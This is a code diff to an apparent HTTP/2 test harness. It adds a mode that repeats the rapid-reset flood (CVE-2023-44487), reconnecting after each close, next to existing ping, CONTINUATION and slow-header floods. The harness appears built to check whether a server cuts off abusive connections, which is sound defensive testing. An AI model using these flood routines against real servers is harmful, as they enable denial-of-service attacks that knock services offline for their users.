@@ -5,6 +5,7 @@
 
 normal N            N sequential GETs on one connection; prints latencies (ms) p50/p99
 rapid-reset N S     HEADERS + RST_STREAM pairs, up to N or S seconds (CVE-2023-44487)
+rapid-reset-loop N S  rapid-reset, reconnecting after each close (at most 10 a second), for S s
 ping-flood N S      PING frames
 continuation N S    one HEADERS without END_HEADERS, then empty CONTINUATION frames
 slow-headers N S    one HEADERS without END_HEADERS, then one 1-byte CONTINUATION per second
@@ -67,7 +68,7 @@ def closed(s, wait=0.0):
         return True
 
 
-def flood(port, n, seconds, mode):
+def flood(port, n, seconds, mode, report=True):
     s, conn = connect(port)
     start = time.monotonic()
     sent, stream = 0, 1
@@ -96,7 +97,22 @@ def flood(port, n, seconds, mode):
         done = True
     if not done:
         done = closed(s, max(0.0, min(3.0, seconds - (time.monotonic() - start))))
-    print(json.dumps({"closed": done, "seconds": round(time.monotonic() - start, 3), "sent": sent}))
+    result = {"closed": done, "seconds": round(time.monotonic() - start, 3), "sent": sent}
+    if report:
+        print(json.dumps(result))
+    return result
+
+
+def flood_loop(port, n, seconds):
+    """Sustained attack: every connection floods until cut; counts the connections."""
+    start, runs = time.monotonic(), []
+    while time.monotonic() - start < seconds and len(runs) < 1000:
+        began = time.monotonic()
+        runs.append(flood(port, n, seconds - (began - start), "rapid-reset", False))
+        time.sleep(max(0.0, 0.1 - (time.monotonic() - began)))
+    print(json.dumps({"connections": len(runs), "closed": sum(r["closed"] for r in runs),
+                      "sent": sum(r["sent"] for r in runs),
+                      "seconds": round(time.monotonic() - start, 3)}))
 
 
 def normal(port, n):
@@ -130,5 +146,7 @@ if __name__ == "__main__":
     seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 10.0
     if mode == "normal":
         normal(port, n)
+    elif mode == "rapid-reset-loop":
+        flood_loop(port, n, seconds)
     else:
         flood(port, n, seconds, mode)
